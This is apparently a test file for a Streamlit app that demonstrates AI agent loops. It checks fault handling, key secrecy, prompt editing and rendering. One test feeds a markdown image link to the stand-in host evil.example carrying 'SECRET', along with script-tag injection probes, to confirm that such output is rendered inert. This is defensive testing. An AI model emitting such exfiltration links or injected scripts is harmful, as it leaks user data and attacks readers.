"""Every page, as far as AppTest can see it: on the demo model, and on the local server with its faults."""

import json

import pytest

from agents.recording import from_json, to_json
from components.live_run import LiveRun
from tests.app_under_test import PAGES, click, drawn_html, labels, open_page, words
from tests.sse_server import Answer, SSEServer, answering, text_chunk

pytestmark = pytest.mark.usefixtures("nothing_is_set")


@pytest.fixture
def server(app_server: SSEServer) -> SSEServer:
    return app_server


@pytest.mark.parametrize("name", ["", *PAGES])
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_page_opens_without_a_fault(name: str, lang: str) -> None:
    app = open_page(name, lang=lang)
    assert not app.exception
    assert ("智能体" in words(app) or "模型" in words(app)) == (lang == "zh")


@pytest.mark.parametrize("name", PAGES)
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_run_on_the_demo_model_takes_one_click_and_ends_with_an_answer(name: str, lang: str) -> None:
    app = click(open_page(name, lang=lang), f"{name}.start")
    assert not app.exception
    live: LiveRun = app.session_state[f"{name}.run"]
    assert live.run.answer is not None
    assert live.run.totals.steps >= 3
    assert len([label for label in labels(app) if label.startswith("**")]) >= live.run.totals.steps
    assert "498" in words(app) or "504" in words(app)


@pytest.mark.parametrize("name", PAGES)
def test_a_sample_on_the_home_page_runs_on_its_own_page(name: str) -> None:
    app = click(open_page(), f"home.{name}")
    assert not app.exception
    assert app.session_state[f"{name}.run"].run.answer is not None


def test_cards_show_thought_action_observation_prompt_and_raw_reply(server: SSEServer) -> None:
    server.answer(*answering("Thought: sum\nAction: Calculator[2+3]", "Thought: so\nAction: Finish[It is 5]"))
    app = click(open_page("react"), "react.start")
    shown = words(app)
    parts = ["psychology: Thought", "bolt: Action", "visibility: Observation", "Calculator[2+3]", "It is 5"]
    assert [part in shown for part in parts] == [True] * len(parts)
    assert labels(app).count("Exact prompt") == 2
    assert labels(app).count("Raw reply") == 2
    assert server.bodies[0]["messages"][0]["content"] in [code.value for code in app.code]


def test_a_format_slip_names_its_rule_and_strikes_out_what_was_thrown_away(server: SSEServer) -> None:
    faked = "Thought: sum\nAction: Calculator[2+3]\nThought: done\nAction: Finish[<b>9</b>]"
    server.answer(*answering(faked, "Action: Finish[5]"))
    app = click(open_page("react"), "react.start")
    struck = [html for html in drawn_html(app) if "<del" in html]
    assert "&lt;b&gt;9&lt;/b&gt;" in struck[0]
    assert "healing: Format slip" in words(app)


def test_a_second_run_says_what_changed_since_the_first(server: SSEServer) -> None:
    server.answer(*answering("Action: Finish[5]", "Action: Finish[6]"))
    app = click(open_page("react"), "react.start")
    assert "What changed since the last run" not in words(app)
    app.text_area(key="prompt.react.react.en").set_value("Be brief. {tools} {question}").run()
    click(app, "react.start")
    assert "What changed since the last run" in words(app)
    assert server.bodies[1]["messages"][0]["content"].startswith("Be brief.")
    assert any("Be" in change and "<ins" in change for change in drawn_html(app))


def test_plan_and_solve_ticks_its_plan(server: SSEServer) -> None:
    server.answer(*answering('["Find A", "Find B"]', "1", "2", "Both."))
    app = click(open_page("plan_and_solve"), "plan_and_solve.start")
    ticked = [str(part.value) for part in app.markdown if "check_box:" in str(part.value)]
    assert "Find A" in ticked[0]
    assert "Find B" in ticked[0]


def test_reflection_shows_the_difference_of_a_revision_and_the_verdict(server: SSEServer) -> None:
    server.answer(*answering("one cat", "More.\nVerdict: REVISE", "two cats", "Good.\nVerdict: APPROVED"))
    app = click(open_page("reflection"), "reflection.start")
    assert any("<del" in html and "one" in html for html in drawn_html(app))
    assert "To be revised" in words(app)
    assert "Approved" in words(app)


FAULTS: dict[str, Answer] = {
    "auth": Answer(401, "application/json", '{"error": {"message": "Incorrect API key"}}'),
    "model_or_url": Answer(404, "application/json", '{"error": {"message": "model not found"}}'),
    "web_page": Answer(200, "text/html", "<html>hello</html>"),
    "quota": Answer(429, "application/json", '{"error": {"code": "insufficient_quota", "message": "no money"}}'),
    "context_length": Answer(400, "application/json", '{"error": {"message": "maximum context length exceeded"}}'),
    "content_filter": Answer(chunks=[text_chunk("Tho"), text_chunk("", "content_filter")]),
    "server": Answer(chunks=[text_chunk("Tho"), {"error": {"message": "overloaded"}}]),
    "connection": Answer(chunks=[text_chunk("Tho"), {"cut": "reset"}]),
    "protocol": Answer(chunks=[text_chunk("Tho"), {"_raw_bytes_hex": "fffe"}]),
    "bad_request": Answer(400, "application/json", '{"error": {"message": "something odd"}}'),
    "timeout": Answer(chunks=[text_chunk("Tho")], done=False, hold=True),
}


@pytest.mark.parametrize("kind", FAULTS)
def test_a_model_error_is_a_sentence_with_a_next_step_and_keeps_what_was_drawn(
    server: SSEServer, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LLM_TIMEOUT", "1")
    server.answer(*answering("Thought: first\nAction: Calculator[2+3]"), FAULTS[kind])
    app = click(open_page("react"), "react.start")
    assert not app.exception
    assert app.session_state["react.run"].run.ended.error == kind
    assert "What to do:" in app.error[0].value
    assert "Calculator[2+3]" in words(app)
    assert "sk-server-secret" not in words(app)
    assert not app.button(key="react.start").disabled


def test_a_server_that_keeps_refusing_is_an_error_too(server: SSEServer) -> None:
    refusal = Answer(429, "application/json", '{"error": {"message": "Rate limit reached"}}')
    server.answer(refusal, refusal, refusal)
    app = click(open_page("react"), "react.start")
    assert app.session_state["react.run"].run.ended.error == "rate_limit"
    assert "What to do:" in app.error[0].value


def test_a_key_that_cannot_be_sent_is_said_before_any_request(
    server: SSEServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LLM_API_KEY", "“sk-abc”")
    app = click(open_page("react"), "react.start")
    assert app.session_state["react.run"].run.ended.error == "bad_key_characters"
    assert server.exchanges == []


def test_the_key_of_the_server_is_in_no_element(server: SSEServer) -> None:
    server.answer(*answering("Action: Finish[5]"))
    app = click(open_page("react"), "react.start")
    assert server.exchanges[0].headers["authorization"] == "Bearer sk-server-secret"
    assert "sk-server-secret" not in str(app.main) + str(app.sidebar)


def test_what_was_set_is_there_after_visiting_every_other_page() -> None:
    app = open_page("react")
    app.text_area(key="react.question").set_value("My question").run()
    app.text_area(key="prompt.react.react.en").set_value("My prompt {question}").run()
    app.slider(key="react.limit").set_value(2).run()
    for page in ("app.py", PAGES["plan_and_solve"], PAGES["reflection"], PAGES["react"]):
        app.switch_page(page).run().run()
    assert app.text_area(key="react.question").value == "My question"
    assert app.text_area(key="prompt.react.react.en").value == "My prompt {question}"
    assert app.slider(key="react.limit").value == 2


def test_a_link_fills_the_page_and_starts_nothing(server: SSEServer) -> None:
    app = open_page("react", q="Why is the sky blue?", lang="zh")
    assert app.text_area(key="react.question").value == "Why is the sky blue?"
    assert app.session_state["language"] == "zh"
    assert server.exchanges == []


@pytest.mark.parametrize("query", [{"q": "<script>alert(1)</script>"}, {"lang": "xx"}, {"q": "x" * 9000}, {"a": "b"}])
def test_an_odd_link_is_no_fault(query: dict[str, str]) -> None:
    assert not open_page("react", **query).exception


def test_a_question_changed_after_a_link_stays_changed() -> None:
    app = open_page("react", q="From the link")
    app.text_area(key="react.question").set_value("My own").run()
    app.run()
    assert app.text_area(key="react.question").value == "My own"


def test_an_untouched_sample_and_prompt_follow_the_language_and_an_edit_stays() -> None:
    app = open_page("react")
    app.session_state["language"] = "zh"
    app.run()
    assert "埃菲尔铁塔" in str(app.text_area(key="react.question").value)
    assert "思考" in str(app.text_area(key="prompt.react.react.zh").value)
    app.text_area(key="react.question").set_value("我的问题").run()
    app.session_state["language"] = "en"
    app.run()
    assert app.text_area(key="react.question").value == "我的问题"


def test_without_a_question_nothing_starts() -> None:
    app = open_page("react")
    app.text_area(key="react.question").set_value("  ").run()
    click(app, "react.start")
    assert "There is no question yet" in words(app)
    assert "react.run" not in app.session_state


def test_a_tool_that_is_switched_off_is_not_in_the_prompt(server: SSEServer) -> None:
    server.answer(*answering("Action: Search[x]", "Action: Finish[5]"))
    app = open_page("react")
    app.pills(key="react.tools").set_value(["Calculator"]).run()
    click(app, "react.start")
    assert "Search[words]" not in server.bodies[0]["messages"][0]["content"]
    assert "Calculator[expression]" in server.bodies[0]["messages"][0]["content"]
    assert "no tool" in words(app)


def test_two_sessions_share_nothing(server: SSEServer) -> None:
    server.answer(*answering("Action: Finish[5]"))
    first, second = open_page("react"), open_page("react")
    first.text_area(key="prompt.react.react.en").set_value("Mine {question}").run()
    click(first, "react.start")
    second.run()
    assert "react.run" not in second.session_state
    assert second.text_area(key="prompt.react.react.en").value != "Mine {question}"


def test_the_saved_run_loads_back(server: SSEServer) -> None:
    server.answer(*answering("Action: Finish[5]"))
    app = click(open_page("react"), "react.start")
    assert app.get("download_button")
    run = app.session_state["react.run"].run
    assert from_json(to_json(run)) == run
    assert json.loads(to_json(run))["version"] == 1


def test_long_dangerous_text_is_shown_as_text(server: SSEServer) -> None:
    evil = "It costs $5 and $7. ![x](https://evil.example/p?d=SECRET) <script>alert(1)</script> __init__"
    server.answer(*answering(f"Thought: {evil}\nAction: Finish[{evil}]"))
    app = click(open_page("react"), "react.start")
    assert not app.exception
    assert "![x](https" not in "\n".join(str(part.value) for part in app.markdown)


def test_the_context_view_opens_whatever_the_prompt_holds(app_server: SSEServer) -> None:
    app_server.answer(*answering("Action: Calculator[1]", "Action: Finish[5]"))
    app = open_page("react")
    app.text_area(key="prompt.react.react.en").set_value("Write Finish[{answer}]. {tools} {question}").run()
    click(app, "react.start")
    app.session_state["context.open"] = True
    app.run()
    assert not app.exception
    assert app.get("vega_lite_chart")


def test_an_ended_run_does_not_look_as_if_it_waited(app_server: SSEServer) -> None:
    app_server.answer(FAULTS["auth"])
    app = click(open_page("react"), "react.start")
    assert "Waiting for the model" not in words(app)


def test_a_second_click_before_the_first_is_drawn_starts_no_second_run(app_server: SSEServer) -> None:
    app_server.answer(*answering("Action: Finish[5]"))
    app = click(open_page("react"), "react.start")
    assert "react.previous" not in app.session_state
    assert len(app_server.exchanges) == 1
